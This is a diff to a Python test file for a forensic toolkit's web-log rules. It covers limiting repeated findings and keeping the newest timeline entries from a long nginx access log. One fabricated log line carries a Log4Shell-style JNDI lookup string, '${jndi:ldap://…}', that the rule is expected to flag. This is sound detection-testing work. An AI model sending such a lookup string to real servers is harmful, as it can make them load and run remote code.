@@ -5,7 +5,9 @@ from __future__ import annotations
 import struct
 from datetime import UTC, datetime
 
-from forensic_toolkit.readers import system_logs
+import pytest
+
+from forensic_toolkit.readers import log_stream, system_logs
 from forensic_toolkit.readers.coverage import Coverage
 from forensic_toolkit.results import Results
 from forensic_toolkit.rules import log_rules
@@ -62,6 +64,27 @@ def test_thousands_of_similar_web_requests_are_limited() -> None:
     builder = Builder().add("/var/log/nginx/access.log", line.encode() * 500, born=WRITTEN)
     results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
     coverage = Coverage()
-    found = list(log_rules.web(builder.tree(), coverage=coverage, results=results))
-    assert len(found) == log_rules.MAX_OF_A_KIND
+    found = [f for _, rule in log_rules.web(builder.tree(), coverage=coverage, results=results) for f in rule()]
+    assert [(item.title, item.count) for item in found] == [("Path out of the web root from 198.51.100.7", 500)]
     assert [(item.lines, item.parsed) for item in coverage.artifacts] == [(500, 500)]
+
+
+def test_an_endless_web_log_keeps_its_newest_entries_and_every_attack(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(log_rules, "MAX_ENTRIES", 10)
+    monkeypatch.setattr(log_stream, "BLOCK", 500)
+    rows = [f'203.0.113.9 - - [30/Nov/2026:05:00:{n:02} +0000] "GET /{n} HTTP/1.1" 200 5 "-" "x"' for n in range(50)]
+    rows[3] = rows[3].replace("/3 ", "/?x=${jndi:ldap://203.0.113.9/a} ")
+    tree = Builder().add("/var/log/nginx/access.log", ("\n".join(rows) + "\n").encode()).tree()
+    results = Results("fc-20260101-0123456789", "disk-1", "disk", started=now())
+    coverage = Coverage()
+    found = [f for _, rule in log_rules.web(tree, coverage=coverage, results=results) for f in rule()]
+    assert [f.technique for f in found] == ["T1190"]
+    assert (coverage.artifacts[0].lines, coverage.artifacts[0].parsed) == (50, 50)
+    assert len(results.events) == 11
+    assert min(e.time.second for e in results.events if not e.notable) == 40
+    assert results.notes == [
+        (
+            "timeline of /var/log/nginx/access.log",
+            "50 entries; the timeline has the newest 10 and every notable one, rules saw all",
+        )
+    ]
